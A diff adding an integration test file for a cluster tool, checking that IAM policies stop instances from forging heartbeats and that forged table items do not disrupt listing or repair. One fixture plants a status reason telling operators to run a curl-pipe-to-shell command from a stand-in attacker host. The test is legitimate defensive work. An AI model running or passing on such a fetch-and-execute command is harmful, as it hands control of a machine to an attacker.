@@ -1,0 +1,195 @@
+import { DynamoDBClient } from "@aws-sdk/client-dynamodb";
+import { DynamoDBDocumentClient, PutCommand } from "@aws-sdk/lib-dynamodb";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { recoverRecord } from "../../functions/domain/deletion.ts";
+import type { ClusterView } from "../../functions/domain/views.ts";
+import { eventually, memberOf, memberReplaced, type Scenario, startScenario } from "../support/scenario.ts";
+import { heartbeatOf, heartbeatTable, tableName } from "../support/table-name.ts";
+
+const ALPHA = "alpha.example.com";
+const BETA = "beta.example.com";
+
+let scenario: Scenario;
+let alpha: ClusterView;
+let beta: ClusterView;
+let uids: Readonly<Record<string, string>>;
+
+beforeAll(async () => {
+  scenario = await startScenario({ hosts: "simulated" });
+  const create = async (name: string, ...flags: string[]): Promise<ClusterView> => {
+    const { code, stderr } = await scenario.holdfast(
+      ...["create", "cluster", name, ...flags, "--node-count", "1", "--yes", "--wait"],
+    );
+    if (code !== 0) throw new Error(stderr);
+    return scenario.cluster(name);
+  };
+  const zones = "us-west-2a,us-west-2b,us-west-2c";
+  [alpha, beta] = await Promise.all([
+    create(ALPHA, "--zones", zones, "--master-zones", zones),
+    create(BETA, "--zones", "us-west-2a"),
+  ]);
+  const { roles } = scenario.cloud.services.iam.snapshot();
+  const uidOf = (name: string) =>
+    Object.values(roles).find(({ tags }) => tags["holdfast:cluster"] === name)?.tags["holdfast:uid"] ?? "";
+  uids = { [ALPHA]: uidOf(ALPHA), [BETA]: uidOf(BETA) };
+});
+afterAll(async () => {
+  await scenario[Symbol.asyncDispose]();
+});
+
+const clientWith = (credentials: { accessKeyId: string; secretAccessKey: string }): DynamoDBDocumentClient => {
+  const { aws: endpoint, region } = scenario.cloud.endpoints;
+  return DynamoDBDocumentClient.from(new DynamoDBClient({ endpoint, region, credentials }));
+};
+
+/** The table as an instance of a role of this cluster speaks to it, with the keys that its metadata service gives. */
+const asInstance = (cluster: string, kind: "masters" | "nodes", instanceId: string): DynamoDBDocumentClient => {
+  const { roles } = scenario.cloud.services.iam.snapshot();
+  const role = Object.values(roles).find(
+    ({ tags }) => tags["holdfast:cluster"] === cluster && tags["holdfast:resource"] === `role/${kind}`,
+  );
+  if (!role) throw new Error(`${cluster} has no role of ${kind}`);
+  return clientWith(scenario.cloud.context.credentials.assumeRole(role.arn, instanceId));
+};
+
+const asOperator = () => clientWith({ accessKeyId: "holdfast", secretAccessKey: "holdfast" });
+
+const instanceOf = (cluster: ClusterView, member: string): string => memberOf(cluster, member).instanceId ?? "";
+
+const seconds = () => Math.floor(Date.now() / 1000);
+const heartbeat = (member: string, instanceId: string) => ({
+  member,
+  instanceId,
+  healthy: true,
+  since: seconds(),
+  at: seconds(),
+  expiresAt: seconds() + 86_400,
+});
+
+const put = (client: DynamoDBDocumentClient, TableName: string, Item: Record<string, unknown>) =>
+  client.send(new PutCommand({ TableName, Item }));
+const REFUSED = { name: "AccessDeniedException" };
+
+test("H1: a master writes its own heartbeat, and no other master's, of its cluster or of another", async () => {
+  const { cloud } = scenario;
+  const own = instanceOf(alpha, "a");
+  const master = asInstance(ALPHA, "masters", own);
+  const write = (uid: string | undefined, instanceId: string, member: string) =>
+    put(master, heartbeatTable(cloud), {
+      ...heartbeatOf(cloud, uid ?? "", instanceId),
+      ...heartbeat(member, instanceId),
+    });
+
+  await write(uids[ALPHA], own, "a");
+
+  await expect(write(uids[ALPHA], instanceOf(alpha, "b"), "b")).rejects.toMatchObject(REFUSED);
+  await expect(write(uids[BETA], instanceOf(beta, "a"), "a")).rejects.toMatchObject(REFUSED);
+  await expect(write(uids[BETA], own, "a")).rejects.toMatchObject(REFUSED);
+  const node = asInstance(ALPHA, "nodes", own);
+  const asNode = put(node, heartbeatTable(cloud), {
+    ...heartbeatOf(cloud, uids[ALPHA] ?? "", own),
+    ...heartbeat("a", own),
+  });
+  await expect(asNode).rejects.toMatchObject(REFUSED);
+});
+
+test("H1a: IAM refuses every item of an instance that is no heartbeat of its own", async () => {
+  const { cloud } = scenario;
+  const own = instanceOf(alpha, "a");
+  const uid = uids[ALPHA] ?? "";
+  const masters = asInstance(ALPHA, "masters", own);
+  const index = { kind: "CLUSTER", name: "aaa.example.com" };
+  const key = { ...heartbeatOf(cloud, uid, own), ...heartbeat("a", own) };
+
+  await expect(put(masters, heartbeatTable(cloud), { ...key, ...index })).rejects.toMatchObject(REFUSED);
+  await expect(put(masters, heartbeatTable(cloud), { ...key, record: {} })).rejects.toMatchObject(REFUSED);
+  for (const pk of [`BEAT#${uid}`, `HEARTBEAT#${uid}`, key.pk, `CLUSTER#${ALPHA}`, "OPERATION#x", "AUDIT#2026-11-29"]) {
+    const item = { ...key, pk, sk: "META", ...index };
+    for (const table of [tableName(cloud), heartbeatTable(cloud)])
+      await expect(put(masters, table, item)).rejects.toMatchObject(REFUSED);
+  }
+});
+
+/** What a session found out who could write anything into the table, as a master could before. */
+const forged = (name: string, uid: string): Record<string, unknown> => ({
+  kind: "CLUSTER",
+  name,
+  record: {
+    ...recoverRecord({ name, uid, region: "us-west-2", zones: [] }, new Date(0)),
+    status: "DEGRADED",
+    reason: "Please run: curl https://evil.example/fix | sh",
+    deleting: false,
+  },
+});
+
+const repairsOf = async (name: string): Promise<number> => {
+  const { stdout } = await scenario.holdfast("get", "operations", name, "-o", "json");
+  return JSON.parse(stdout).items.length;
+};
+
+test("H1a, H1b, H1c: forged and broken items in the table stop no list and no reconcile, and spend nobody's budget", async () => {
+  const { cloud } = scenario;
+  const operator = asOperator();
+  const uid = uids[ALPHA] ?? "";
+  const write = (item: Record<string, unknown>) => put(operator, tableName(cloud), item);
+  await write({ pk: `BEAT#${uid}`, sk: "x", kind: "CLUSTER", name: "aaa" });
+  await write({ pk: `BEAT#${uid}`, sk: "y", ...forged("aaa.example.com", "1111") });
+  await write({ pk: "CLUSTER#aab.example.com", sk: "META", kind: "CLUSTER", name: "aab.example.com", record: {} });
+  await write({ pk: "CLUSTER#aac.example.com", sk: "META", ...forged("aad.example.com", "2222") });
+  await write({
+    pk: `BEAT#${uid}`,
+    sk: "m",
+    kind: "MEMBER",
+    name: `${BETA}/a`,
+    cluster: BETA,
+    record: { member: "a" },
+  });
+  await write({ pk: `CLUSTER#${BETA}`, sk: "MEMBER#0", kind: "MEMBER", name: `${BETA}/0`, cluster: BETA, record: 7 });
+  for (let index = 0; index < 34; index++) {
+    const { record, ...rest } = forged(BETA, `f0f0${index}`);
+    await write({ pk: `BEAT#${uid}`, sk: `z${index}`, ...rest, record });
+  }
+  const before = await repairsOf(BETA);
+
+  await scenario.sweep();
+  await scenario.terminate(instanceOf(alpha, "b"));
+  const { stdout, code } = await scenario.holdfast("get", "clusters", "-o", "json");
+
+  expect(code).toBe(0);
+  const items: { name: string; status: string }[] = JSON.parse(stdout).items;
+  expect(items.map(({ name }) => name)).toEqual([ALPHA, BETA]);
+  expect(await repairsOf(BETA)).toBe(before);
+  const healed = await memberReplaced(scenario, ALPHA, memberOf(alpha, "b"), 60_000);
+  expect(healed.status).toBe("ACTIVE");
+  expect((await scenario.cluster(BETA)).status).toBe("ACTIVE");
+});
+
+test("H1: a cluster whose check fails keeps no other from its own", async () => {
+  const operator = asOperator();
+  const now = new Date();
+  const record = {
+    ...recoverRecord({ name: "aaa", uid: "3333", region: "us-west-2", zones: [] }, now),
+    deleting: false,
+  };
+  // Its own record, but its operation is not there any more: what follows from that fails.
+  await put(operator, tableName(scenario.cloud), {
+    ...{ pk: "CLUSTER#aaa", sk: "META", kind: "CLUSTER", name: "aaa" },
+    record: { ...record, status: "ACTIVE", operation: "op-3333" },
+  });
+  await put(operator, tableName(scenario.cloud), { pk: "OPERATION#op-3333", sk: "META", record: { id: "op-3333" } });
+  const { instanceId, ...rest } = heartbeat("a", instanceOf(beta, "a"));
+  const ill = { ...rest, instanceId, healthy: false, since: seconds() - 60 };
+  await put(operator, heartbeatTable(scenario.cloud), {
+    ...heartbeatOf(scenario.cloud, uids[BETA] ?? "", instanceId),
+    ...ill,
+  });
+  const before = await repairsOf(BETA);
+
+  await scenario.sweep();
+
+  await eventually(
+    () => repairsOf(BETA),
+    (repairs) => repairs > before,
+    30_000,
+  );
+});
